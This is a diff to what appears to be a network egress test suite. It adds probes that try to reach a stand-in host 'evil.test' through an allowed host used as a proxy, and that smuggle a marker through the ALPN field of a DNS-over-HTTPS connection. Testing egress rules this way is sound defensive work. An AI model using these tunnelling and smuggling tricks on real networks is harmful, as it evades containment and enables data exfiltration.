@@ -323,6 +323,16 @@ def _(mark, port):
     return tcp("web.test", port, head(f"{mark}.evil.test:443", f"{mark}.evil.test:443", method="CONNECT"))
 
 
+@each("allowed host as a proxy, absolute form at", [3128, 8080])
+def _(mark, port):
+    return tcp("web.test", port, head(f"http://{mark}.evil.test/", f"{mark}.evil.test"))
+
+
+@attempt("dns over https")
+def _(mark):
+    return tcp("doh.test", 443, hello("doh.test", alpn=mark.encode()))
+
+
 @attempt("a port that no rule names")
 def _(mark):
     return tcp("ported.test", 8080, head(f"/{mark}", "ported.test"))
